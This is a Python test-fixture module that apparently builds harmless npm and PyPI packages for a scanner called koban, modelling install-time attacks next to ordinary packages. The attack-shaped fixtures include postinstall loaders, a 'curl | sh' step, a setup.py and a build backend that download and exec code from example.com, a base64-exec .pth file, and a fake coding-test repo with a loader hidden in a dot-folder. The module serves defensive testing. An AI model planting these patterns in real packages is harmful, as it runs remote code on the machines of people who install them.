"""Harmless npm and PyPI packages in the shapes of install-time attacks (and ordinary ones).

Every URL is example.com; the scripts are never run by koban (tests only read them).
"""

from __future__ import annotations

import base64
import io
import json
import tarfile
import zipfile

LOADER_JS = """const https = require('https');
https.get('https://example.com/payload.js', (res) => {
  let code = '';
  res.on('data', (chunk) => { code += chunk; });
  res.on('end', () => { new Function(code)(); });
});
"""
BANNER_JS = "console.log('Thank you for installing example-lib!');\n"

SETUP_DOWNLOAD = """from setuptools import setup
from setuptools.command.install import install
import urllib.request


class PostInstall(install):
    def run(self):
        install.run(self)
        code = urllib.request.urlopen('https://example.com/payload.py').read()
        exec(code)


setup(name='example-helper', version='0.1.0', cmdclass={'install': PostInstall})
"""
SETUP_PLAIN = """from setuptools import find_packages, setup

setup(
    name='example-lib',
    version='1.0.0',
    packages=find_packages(),
    install_requires=['requests>=2'],
)
"""


def _tar(files: dict[str, str | bytes], gz: bool = True) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz" if gz else "w", format=tarfile.PAX_FORMAT) as tf:
        for name, content in files.items():
            raw = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            info.mtime = 1_700_000_000
            tf.addfile(info, io.BytesIO(raw))
    return buffer.getvalue()


def _zip(files: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in files.items():
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), content)
    return buffer.getvalue()


def package_json(scripts: dict[str, str] | None = None, name: str = "example-lib") -> str:
    return json.dumps(
        {"name": name, "version": "1.0.0", "main": "index.js", "scripts": scripts or {}}, indent=2
    )


def npm_tarball(
    scripts: dict[str, str] | None = None, extra: dict[str, str] | None = None
) -> bytes:
    """An npm tarball (``package/...``) with the given scripts and extra files."""
    files: dict[str, str | bytes] = {
        "package/package.json": package_json(scripts),
        "package/index.js": "module.exports = () => 42;\n",
    }
    files.update({f"package/{k}": v for k, v in (extra or {}).items()})
    return _tar(files)


def npm_postinstall_loader() -> bytes:
    """postinstall runs scripts/setup.js, which would evaluate code fetched from example.com."""
    return npm_tarball({"postinstall": "node scripts/setup.js"}, {"scripts/setup.js": LOADER_JS})


def npm_postinstall_curl() -> bytes:
    """postinstall pipes a download into a shell."""
    return npm_tarball({"postinstall": "curl -s https://example.com/setup.sh | sh"})


def npm_build_scripts() -> bytes:
    """An ordinary package: build with tsc on prepare, a banner on postinstall."""
    return npm_tarball(
        {"build": "tsc -p .", "prepare": "npm run build", "postinstall": "node banner.js"},
        {"banner.js": BANNER_JS},
    )


def coding_test_repo_files() -> dict[str, str]:
    """A "skills test" repository: postinstall runs a loader hidden in a dot-folder."""
    return {
        "package.json": package_json(
            {"start": "node index.js", "postinstall": "node .vscode/.cache/setup.js"},
            name="trading-dashboard-test",
        ),
        "index.js": "console.log('dashboard');\n",
        "README.md": "# Skills test\nRun `npm install` then `npm start`.\n",
        ".vscode/.cache/setup.js": LOADER_JS,
    }


def coding_test_zip() -> bytes:
    """The coding-test repository as GitHub's "Download ZIP" gives it."""
    return _zip({f"trading-dashboard-main/{k}": v for k, v in coding_test_repo_files().items()})


def sdist_download() -> bytes:
    """A source distribution whose setup.py would download and exec code at install."""
    return _tar(
        {
            "example-helper-0.1.0/setup.py": SETUP_DOWNLOAD,
            "example-helper-0.1.0/PKG-INFO": "Metadata-Version: 2.1\nName: example-helper\n",
        }
    )


def sdist_plain() -> bytes:
    """An ordinary source distribution."""
    return _tar(
        {
            "example-lib-1.0.0/setup.py": SETUP_PLAIN,
            "example-lib-1.0.0/PKG-INFO": "Metadata-Version: 2.1\nName: example-lib\n",
            "example-lib-1.0.0/example_lib/__init__.py": "VERSION = '1.0.0'\n",
        }
    )


def wheel_pth() -> bytes:
    """A wheel with a .pth file that would exec base64-decoded code at every Python start."""
    hidden = base64.b64encode(b"print('https://example.com')").decode()
    pth = f"import base64; exec(base64.b64decode('{hidden}'))\n"
    return _zip(
        {
            "example_helper/__init__.py": "",
            "example_helper-0.1.0.pth": pth,
            "example_helper-0.1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: x\n",
            "example_helper-0.1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nTag: py3-none-any\n",
        }
    )


def local_backend_sdist() -> bytes:
    """An sdist that builds with an in-tree backend that would download and exec code."""
    backend = (
        "import urllib.request\n"
        "from setuptools import build_meta as _orig\n"
        "exec(urllib.request.urlopen('https://example.com/b.py').read())\n"
        "build_wheel = _orig.build_wheel\n"
    )
    pyproject = (
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\n'
        'backend-path = ["_build"]\n'
    )
    return _tar(
        {
            "example-tool-0.2.0/pyproject.toml": pyproject,
            "example-tool-0.2.0/_build/backend.py": backend,
            "example-tool-0.2.0/PKG-INFO": "Metadata-Version: 2.1\nName: example-tool\n",
        }
    )


def truncated_tarball() -> bytes:
    """An npm tarball (uncompressed tar) cut in the middle of its second member."""
    data = _tar({"package/package.json": package_json(), "package/index.js": "x" * 3000}, gz=False)
    return data[:2048]
